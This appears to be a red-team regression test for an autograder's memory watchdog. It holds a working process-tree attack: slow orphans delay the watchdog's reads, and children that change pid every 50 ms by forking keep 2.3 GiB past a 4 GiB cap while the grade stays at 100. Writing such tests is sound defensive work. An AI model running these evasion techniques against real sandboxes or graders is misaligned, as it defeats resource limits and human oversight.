"""A top-level cell starts 180 small and 30 slow-to-read orphans (each maps libtorch 8 times), then two children that each hold 2.3 GiB and change pid every 50 ms (fork, the parent exits): the slow ones delay each sample's reads, so every hopper the sample listed was gone when its memory was read (red team of issue 27, fifth attack: 5.3 GiB held 7-14 s past the 4 GiB cap, 52 s over a whole grade, at score 100 in user, docker-root and k8s-pod); each sample now lists the tree again and reads the processes it had not seen, biggest first; attacks the memory budget of the worker tree; every part keeps full points."""
from autograder.assignment import PART_IDS
ATTACKS = []
KEEPS = list(PART_IDS)
NEVER = ["SLOW HOPPERS held"]  # not "HOP: held" (pid_hopping's, in the same group)
EXPECT = []  # where the tree is killed, so is the cell that would report
SPAWNER = '# Runs as `python -S -c <this> LIB REPORT_FD F T H MIB HOLD HOP`, started from the notebook\'s cell.\nimport ctypes, mmap, os, sys, time\nLIB, REPORT = sys.argv[1], int(sys.argv[2])\nF, T, H, MIB, HOLD, HOP = int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]), float(sys.argv[8])\nlibc = ctypes.CDLL(None)\ndef name(s):\n    libc.prctl(15, s.encode(), 0, 0, 0)  # PR_SET_NAME (allowed)\ndef say(s):\n    os.write(REPORT, (s + "\\n").encode())\nt0 = time.monotonic()\nhop_start = t0 + 5.0\nhold_end = hop_start + HOLD\nexit_at = hold_end + 1.0\ndef orphan(fn, *a):\n    pid = os.fork()\n    if pid == 0:\n        if os.fork() == 0:\n            try:\n                fn(*a)\n            finally:\n                os._exit(0)\n        os._exit(0)\n    os.waitpid(pid, 0)\ndef filler(i):\n    name("filler")\n    f = open(LIB, "rb"); size = os.fstat(f.fileno()).st_size\n    maps = []\n    for k in range(8):\n        m = mmap.mmap(f.fileno(), size, prot=mmap.PROT_READ)\n        try:\n            m.madvise(22)  # MADV_POPULATE_READ: every page mapped, one system call\n        except OSError:\n            for at in range(0, size, 4096):\n                m[at]\n        maps.append(m)\n    time.sleep(max(0.0, exit_at + 0.012 * (T + i) - time.monotonic()))  # staggered exits: < 200 reaps a second\ndef tiny(i):\n    name("tiny")\n    time.sleep(max(0.0, exit_at + 0.012 * i - time.monotonic()))\nMODE = sys.argv[9] if len(sys.argv) > 9 else "mem"\ndef disk_hopper(i):\n    name("hopholder")\n    fds, hops, full_at, block = [], 0, None, b"x" * (1 << 20)\n    while True:\n        now = time.monotonic()\n        if len(fds) * 64 >= MIB and now > hold_end:\n            break\n        if len(fds) * 64 < MIB:\n            path = f"hop{i}-{len(fds)}"\n            fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600)\n            os.unlink(path)\n            for _ in range(63):\n                os.write(fd, block)\n            fds.append(fd)\n            if len(fds) * 64 >= MIB:\n                full_at = time.monotonic()\n        else:\n            time.sleep(HOP)\n        if os.fork():\n            os._exit(0)\n        hops += 1\n    du = sum(os.fstat(fd).st_blocks * 512 for fd in fds) >> 20\n    say(f"disk hopper {i}: held {len(fds)} unlinked files, {du} MiB on disk, for {time.monotonic() - full_at:.1f} s in {hops} hops (cwd {os.getcwd()})")\ndef hopper(i):\n    if MODE == "disk":\n        return disk_hopper(i)\n    name("hopholder")\n    m = mmap.mmap(-1, MIB << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\n    filled, hops, chunk, full_at = 0, 0, 64 << 20, None\n    while True:\n        now = time.monotonic()\n        if filled >= MIB << 20 and now > hold_end:\n            break\n        if filled < MIB << 20:\n            step = min(chunk, (MIB << 20) - filled)\n            try:\n                m.madvise(23, filled, step)  # MADV_POPULATE_WRITE\n            except OSError:\n                for at in range(filled, filled + step, 4096):\n                    m[at] = 1\n            filled += step\n            if filled >= MIB << 20:\n                full_at = time.monotonic()\n        else:\n            time.sleep(HOP)\n        if os.fork():\n            os._exit(0)\n        hops += 1\n    say(f"hopper {i}: held {MIB} MiB for {time.monotonic() - full_at:.1f} s in {hops} hops")\nfor i in range(T):\n    orphan(tiny, i); time.sleep(0.015)\nfor i in range(F):\n    orphan(filler, i); time.sleep(0.015)\nsay(f"orphans made in {time.monotonic() - t0:.1f} s")\ntime.sleep(max(0.0, hop_start - time.monotonic()))\nfor i in range(H):\n    orphan(hopper, i)\nsay("spawner done")\n'
ADD = [(None, '''
import os as _os, select as _select, subprocess as _sp, sys as _sys, threading as _th, time as _time, torch as _torch
_lib = _os.path.join(_os.path.dirname(_torch.__file__), "lib", "libtorch_cpu.so")
_stop = []


def _reap():  # in a PID namespace the worker is init: the orphans' zombies come back to it
    while not _stop:
        try:
            while _os.waitpid(-1, _os.WNOHANG)[0] > 0:
                pass
        except ChildProcessError:
            pass
        _time.sleep(0.01)


_th.Thread(target=_reap, daemon=True).start()
_r, _w = _os.pipe()
_p = _sp.Popen([_sys.executable, "-S", "-c", ''' + repr(SPAWNER) + ''', _lib, str(_w), "30", "180", "2", "2304", "8", "0.05", "mem"],
               pass_fds=[_w])
_os.close(_w)
_got, _until = b"", _time.monotonic() + 25
while _got.count(b"hopper") < 2 and _time.monotonic() < _until:
    if _select.select([_r], [], [], 0.5)[0]:
        _chunk = _os.read(_r, 4096)
        if not _chunk:
            break
        _got += _chunk
_stop.append(1)
# Held: both hoppers kept their 2.3 GiB for 2 s or more past the cap (the watchdog may overshoot for what a tree
# allocates between two samples, a fraction of a second; under load the hoppers fill late and report 0.1 s).
_held = [_l for _l in _got.decode().splitlines() if _l.startswith("hopper") and "held 2304 MiB" in _l
         and float(_l.split(" for ")[1].split(" s")[0]) >= 2.0]
raise RuntimeError(f"SLOW HOPPERS {'held' if len(_held) == 2 else 'stopped'}: " + " / ".join(_got.decode().strip().splitlines()))
''')]
